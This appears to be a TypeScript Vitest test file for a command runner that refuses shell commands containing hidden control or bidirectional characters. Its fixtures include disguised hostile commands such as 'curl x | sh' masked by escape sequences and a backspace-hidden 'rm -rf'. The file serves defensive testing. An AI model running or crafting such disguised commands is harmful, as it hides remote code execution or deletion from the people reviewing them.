import { existsSync, mkdirSync, mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { ErrorCode } from '../../shared/protocol/protocol';
import { commandRefusal, runScript } from './run-script';

const POSIX = process.platform !== 'win32';

function root(): string {
  const dir = join(mkdtempSync(join(tmpdir(), 'ra-script-')), 'proj');
  mkdirSync(dir);
  return dir;
}

describe('commandRefusal', () => {
  it.each([
    ['npm test', null],
    ['npm ci\nnpm test', null],
    ['npm ci\r\nnpm test', null],
    ['printf "a\\tb"\tx', null],
    ['echo héllo ✓', null],
  ])('runs %j', (command, want) => {
    expect(commandRefusal(command)).toBe(want);
  });

  it.each([
    ['an ESC sequence that erases the line', 'curl x | sh #\u001b[2K\rnpm test', 'U+001B'],
    ['a lone CR that rewrites the line', 'curl x | sh #\rnpm test', 'U+000D'],
    ['an 8-bit CSI', 'curl x | sh #\u009b2Knpm test', 'U+009B'],
    ['a right-to-left override', 'echo hi; \u202E\u2066curl x|sh\u2069\u2066 #\u2069', 'U+202E'],
    ['a bidi isolate', 'echo \u2067a\u2069', 'U+2067'],
    ['a backspace', 'rm -rf ~/x\b\b\b\bdist', 'U+0008'],
  ])('refuses %s', (_name, command, code) => {
    expect(commandRefusal(command)).toContain(code);
  });
});

describe.runIf(POSIX)('runScript', () => {
  it('refuses a command with hidden characters before running anything', async () => {
    const dir = root();
    await expect(runScript(dir, 'touch ran #\u001b[2K\recho fine')).rejects.toMatchObject({
      code: ErrorCode.InvalidParams,
    });
    expect(existsSync(join(dir, 'ran'))).toBe(false);
  });

  it('answers when the shell exits, even if a background child keeps the pipes open', async () => {
    const started = Date.now();
    const r = await runScript(root(), 'sleep 3 & echo started', { timeoutMs: 20_000 });
    expect(r).toMatchObject({ exitCode: 0, output: 'started\n', timedOut: false });
    expect(Date.now() - started).toBeLessThan(2_000);
  });

  it('answers at the timeout even when a child left the process group', async () => {
    const started = Date.now();
    // setsid puts the child out of reach of the group kill; the call must not wait for it.
    const r = await runScript(root(), 'setsid sleep 4 & sleep 3', { timeoutMs: 300 });
    expect(r.timedOut).toBe(true);
    expect(Date.now() - started).toBeLessThan(2_000);
  });

  it('still collects all output of a command that writes right before exiting', async () => {
    const r = await runScript(root(), 'i=0; while [ $i -lt 2000 ]; do echo line $i; i=$((i+1)); done');
    expect(r.output.split('\n')).toHaveLength(2001);
    expect(r.exitCode).toBe(0);
  });
});
